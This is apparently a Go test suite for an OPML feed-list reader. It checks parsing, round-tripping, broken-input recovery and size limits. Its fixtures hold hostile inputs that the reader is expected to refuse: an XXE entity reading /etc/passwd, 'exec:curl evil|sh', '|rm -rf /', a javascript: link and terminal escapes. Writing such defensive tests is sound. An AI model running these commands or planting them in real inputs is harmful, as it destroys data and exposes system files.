package opml

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"reflect"
	"strings"
	"testing"

	"guanbao/cmd/guanbao/urls"
	"guanbao/feed"
)

func read(t testing.TB, text string) List {
	t.Helper()
	l, err := Read(strings.NewReader(text))
	if err != nil {
		t.Fatal(err)
	}
	return l
}

const foreign = `<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE opml [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<OPML version="1.1">
<head><title>my feeds</title></head>
<body>
  <outline text="政府公報" title="政府公報">
    <outline text="郵政">
      <outline type="rss" text="國家郵政局&nbsp;公告" title="x" xmlUrl="https://a.example/feed?x=1&y=2" htmlUrl="https://a.example/"/>
    </outline>
    <outline type="atom" title="只有標題" XMLURL=" https://b.example/ " category="/法律/草案,郵政"></outline>
    <outline text="again" xmlUrl="https://a.example/feed?x=1&amp;y=2"/>
  </outline>
  <outline text="no folder" xmlUrl="http://c.example/"/>
  <outline text="&x;" xmlUrl="https://d.example/"/>
  <outline text="evil" xmlUrl="exec:curl evil|sh"/>
  <outline text="evil" xmlUrl="file:///etc/passwd"/>
  <outline text="evil" xmlUrl="|rm -rf /"/>
  <outline text="two&#10;exec:lines" xmlUrl="https://user:secret@/"/>
  <outline text="a note"/>
</body></OPML>`

func TestListsOfOtherReadersAreRead(t *testing.T) {
	l := read(t, foreign)
	want := []feed.Feed{
		{URL: "https://a.example/feed?x=1&y=2", Name: "國家郵政局\u00a0公告", Title: "x", Site: "https://a.example/", Tags: []string{"政府公報/郵政", "政府公報"}},
		{URL: "https://b.example/", Name: "只有標題", Title: "只有標題", Tags: []string{"政府公報", "法律/草案", "郵政"}},
		{URL: "http://c.example/", Name: "no folder"},
		{URL: "https://d.example/", Name: "&x;"},
	}
	if !reflect.DeepEqual(l.Feeds, want) {
		t.Errorf("feeds\n%+v\nwant\n%+v", l.Feeds, want)
	}
	refused := []Refusal{
		{15, urls.ReasonExec, "exec:curl evil|sh"}, {16, urls.ReasonScheme, "file:///etc/passwd"},
		{17, urls.ReasonAddress, "|rm -rf /"}, {18, urls.ReasonAddress, "https://user:***@/"},
	}
	if !reflect.DeepEqual(l.Refused, refused) || l.Broken {
		t.Errorf("refused %+v, broken %v\nwant %+v", l.Refused, l.Broken, refused)
	}
}

func TestWhatIsWrittenIsReadAgain(t *testing.T) {
	feeds := []feed.Feed{
		{URL: "https://a.example/?x=1&y=\"2\"", Name: `<The> "C" & 'D'`, Tags: []string{"邮政/统计", "法律", "草案"}, Hidden: true},
		{URL: "https://b.example/", Title: "發布者的標題", Site: "https://b.example/home"},
		{URL: "https://c.example/", Name: "名", Title: "title", Tags: []string{"a//b", "one, two", "/x"}},
		{URL: "https://d.example/", Tags: []string{"/"}},
		{URL: "https://e.example/", Name: "e.example/", Tags: []string{"邮政"}},
		{URL: "https://f.example/", Tags: []string{"邮政/统计"}},
	}
	var out bytes.Buffer
	if err := Write(&out, append([]feed.Feed{{URL: "builtin:sample", Tags: []string{"邮政"}}}, feeds...)); err != nil {
		t.Fatal(err)
	}
	l := read(t, out.String())
	got := map[string]feed.Feed{}
	for _, f := range l.Feeds {
		got[f.URL] = f
	}
	for _, f := range feeds {
		if !reflect.DeepEqual(got[f.URL], f) {
			t.Errorf("%+v came back as %+v", f, got[f.URL])
		}
	}
	if len(l.Feeds) != len(feeds) || len(l.Refused) > 0 || l.Broken {
		t.Errorf("%d feeds, refused %v, broken %v of\n%s", len(l.Feeds), l.Refused, l.Broken, out.String())
	}
	var again bytes.Buffer
	if err := Write(&again, l.Feeds); err != nil || again.String() != out.String() {
		t.Errorf("written again, %v:\n%s\nit was\n%s", err, again.String(), out.String())
	}
}

func TestWhatIsCommentedOutIsLeftOut(t *testing.T) {
	l := read(t, `<opml version="2.0"><body><!-- <outline xmlUrl="https://x.example/"/> --><outline text="a" xmlUrl="https://a.example/"/>
		<outline text="old" isComment="true"><outline text="b" xmlUrl="https://b.example/"/><outline text="c"><outline xmlUrl="exec:c"/></outline></outline>
		<outline text="d" isComment="false" xmlUrl="https://d.example/" htmlUrl="javascript:alert(1)"/><outline text="e" isComment="true" xmlUrl="https://e.example/"/></body></opml>`)
	want := []feed.Feed{{URL: "https://a.example/", Name: "a"}, {URL: "https://d.example/", Name: "d"}}
	if !reflect.DeepEqual(l.Feeds, want) || len(l.Refused) > 0 || l.Broken {
		t.Errorf("%+v, refused %v, broken %v", l.Feeds, l.Refused, l.Broken)
	}
}

func TestBrokenListsGiveWhatCanBeRead(t *testing.T) {
	for name, text := range map[string]string{
		"cut":     foreign[:strings.Index(foreign, "</body>")],
		"crossed": `<opml><body><outline text="a"></body><outline xmlUrl="https://a.example/"/></opml`,
	} {
		if l := read(t, text); !l.Broken || len(l.Feeds) == 0 {
			t.Errorf("%s: broken %v with %d feeds", name, l.Broken, len(l.Feeds))
		}
	}
	for _, text := range []string{"", "https://a.example/\n", "<html><body/></html>", "<rss/>", "\x00\x01"} {
		if _, err := Read(strings.NewReader(text)); !errors.Is(err, ErrNotOPML) {
			t.Errorf("%q: %v", text, err)
		}
	}
}

func TestWhatIsNotWellFormedCostsNothingButItself(t *testing.T) {
	for text, name := range map[string]string{
		"text='a&#27;[31mb'":     "ab",
		"text='a\x01\x00b'":      "a\uFFFDb",
		"text='a&#0;b&#xD800;c'": "a\uFFFDb\uFFFDc",
		"text='a<b>c'":           "a<b>c",
		"text=bare":              "bare",
		"text='a&b &unknown; c'": "a&b &unknown; c",
		"text='a' text='b'":      "a",
		"text":                   "",
	} {
		l := read(t, "<opml><head><title>x</head><body><outline "+text+" xmlUrl='https://a.example/?x=1&copy=2'/><outline text='next' xmlUrl='https://b.example/'/></body></opml>")
		want := []feed.Feed{{URL: "https://a.example/?x=1&copy=2", Name: name}, {URL: "https://b.example/", Name: "next"}}
		if !reflect.DeepEqual(l.Feeds, want) || l.Broken {
			t.Errorf("%q: %+v, broken %v", text, l.Feeds, l.Broken)
		}
	}
}

func TestTheSchemeOfFeedsIsThatOfTheWeb(t *testing.T) {
	l := read(t, `<opml><outline xmlUrl="feed://a.example/x"/><outline xmlUrl="feed:http://b.example/"/><outline xmlUrl="feed:exec:sh"/></opml>`)
	if len(l.Feeds) != 2 || l.Feeds[0].URL != "https://a.example/x" || l.Feeds[1].URL != "http://b.example/" || len(l.Refused) != 1 || l.Refused[0].Why != urls.ReasonExec {
		t.Errorf("feeds %+v, refused %+v", l.Feeds, l.Refused)
	}
}

func TestOurOwnAttributesAreKnownByTheirNamespace(t *testing.T) {
	const outline = `<outline text="t" x0:named="false" x0:hidden="true" xmlUrl="https://a.example/" x0:tags="a&#10;b"/>`
	for root, want := range map[string]feed.Feed{
		`<opml xmlns:x0="urn:guanbao:opml">`: {URL: "https://a.example/", Hidden: true, Tags: []string{"a", "b"}},
		`<opml xmlns:x0="urn:other">`:        {URL: "https://a.example/", Name: "t"},
	} {
		if l := read(t, root+outline+"</opml>"); !reflect.DeepEqual(l.Feeds, []feed.Feed{want}) {
			t.Errorf("%s: %+v", root, l.Feeds)
		}
	}
}

func TestOtherCharsetsAreRead(t *testing.T) {
	gbk := "<?xml version='1.0' encoding='gb2312'?><opml><body><outline text='\xd3\xca\xd5\xfe' xmlUrl='https://a.example/'/></body></opml>"
	if l := read(t, gbk); len(l.Feeds) != 1 || l.Feeds[0].Name != "邮政" {
		t.Errorf("%+v", l)
	}
}

func TestDeepAndHugeListsAreBounded(t *testing.T) {
	deep := "<opml><body>" + strings.Repeat(`<outline text="f">`, 10_000) + `<outline text="x" xmlUrl="https://a.example/"/>` +
		strings.Repeat("</outline>", 10_000) + `<outline text="y" xmlUrl="https://b.example/"/></body></opml>`
	l := read(t, deep)
	if len(l.Feeds) != 2 || l.Broken || len(l.Feeds[1].Tags) != 0 || strings.Count(l.Feeds[0].Tags[0], "f") != mostDepth {
		t.Errorf("%d feeds, broken %v: %+v", len(l.Feeds), l.Broken, l.Feeds)
	}
	var wide strings.Builder
	wide.WriteString("<opml><body>")
	for n := range 100_000 {
		fmt.Fprintf(&wide, `<outline text="%s"><outline text="源%d" xmlUrl="https://a.example/%d"/></outline>`, strings.Repeat("长", max(700-n, 1)), n, n)
	}
	wide.WriteString("</body></opml>")
	l = read(t, wide.String())
	if len(l.Feeds) != 100_000 || l.Broken {
		t.Errorf("%d feeds, broken %v", len(l.Feeds), l.Broken)
	}
	if n := len([]rune(l.Feeds[0].Tags[0])); n != mostRunes {
		t.Errorf("a tag of %d runes", n)
	}
	if err := Write(io.Discard, l.Feeds); err != nil {
		t.Error(err)
	}
	if _, err := Read(io.LimitReader(endless{}, MostBytes+2)); !errors.Is(err, ErrTooLarge) {
		t.Errorf("an endless document gives %v", err)
	}
}

// endless is a reader of spaces.
type endless struct{}

func (endless) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = ' '
	}
	return len(p), nil
}

func FuzzReadIsHarmless(f *testing.F) {
	f.Add(foreign)
	f.Add(`<opml><body><outline text="a"></body><outline xmlUrl="https://a.example/"/>`)
	f.Fuzz(func(t *testing.T, text string) {
		l, err := Read(strings.NewReader(text))
		if err != nil {
			return
		}
		for _, fd := range l.Feeds {
			if _, ok := urls.Check(fd.URL); !ok {
				t.Errorf("takes %q", fd.URL)
			}
			for _, name := range append([]string{fd.Name}, fd.Tags...) {
				if strings.ContainsAny(name, "\n\r\x1b\x00") {
					t.Errorf("name %q", name)
				}
			}
		}
		var out bytes.Buffer
		if err := Write(&out, l.Feeds); err != nil {
			t.Fatal(err)
		}
		again, err := Read(&out)
		if err != nil || again.Broken || len(again.Feeds) != len(l.Feeds) {
			t.Errorf("written again: %v, broken %v, %d feeds, not %d", err, again.Broken, len(again.Feeds), len(l.Feeds))
		}
	})
}
